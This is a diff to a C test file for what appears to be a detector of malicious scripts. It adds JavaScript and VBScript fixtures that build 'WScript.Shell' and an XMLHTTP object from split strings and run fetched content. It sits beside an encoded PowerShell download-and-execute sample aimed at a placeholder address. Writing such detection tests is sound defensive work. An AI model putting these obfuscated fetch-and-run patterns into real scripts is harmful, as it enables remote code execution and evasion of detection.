@@ -103,6 +103,14 @@ static const struct {
 	{ BAT, "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBE"
 	  "AG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADIALgAwAC4AMgAuADEALwBhACcAKQA=",
 	  "fetch run object", true, false },
+	/* kept in variables and lists, added up later */
+	{ JS, "var q=[\"WSc\",\"rip\",\"t.S\",\"hell\",\"MSX\",\"ML2\",\".XM\",\"LHT\",\"TP\"];"
+	  "var s=new ActiveXObject(q[0]+q[1]+q[2]+q[3]);var x=new ActiveXObject(q[4]+q[5]+q[6]+q[7]+q[8]);"
+	  "s.Run(x.responseText);", "fetch run object", true, true },
+	{ JS, "var a='WSc',b='ript';var c='.Sh';c+='ell';var d=a+b+c;new ActiveXObject(d).Run('a');",
+	  "run object", false, false },
+	{ VBS, "s = \"WSc\"\ns = s & \"ript\"\ns = s & \".Shell\"\nCreateObject(s).Run \"a\"\n",
+	  "run object", false, false },
 	{ JS, "#@~^DgAAAA==abcdefghijklmnJqAQAAA==^#~@", "decode", false, true },
 	/* honest */
 	{ VBS, "' \xE3\x83\xAD\xE3\x82\xB0\xE3\x82\xAA\xE3\x83\xB3\nOption Explicit\nDim net, sh\n"
@@ -212,7 +220,7 @@ static void
 hostile(void **state)
 {
 	static const char *const unit[] = { "\"", "'", "\"a\"/*", "\"\\", "chr(", "/*", "\"a\"+", "a^",
-		"fromCharCode(1,", "%u", "[char]", "x=x;", "<#", "&(", "\"a\",", "`" };
+		"fromCharCode(1,", "a='b';a+=a+'b';", "a=['b'];a[0]+a[0]+", "%u", "[char]", "x=x;", "<#", "&(", "\"a\",", "`" };
 	size_t n = 1 << 20;
 	char *text = malloc(n);
 
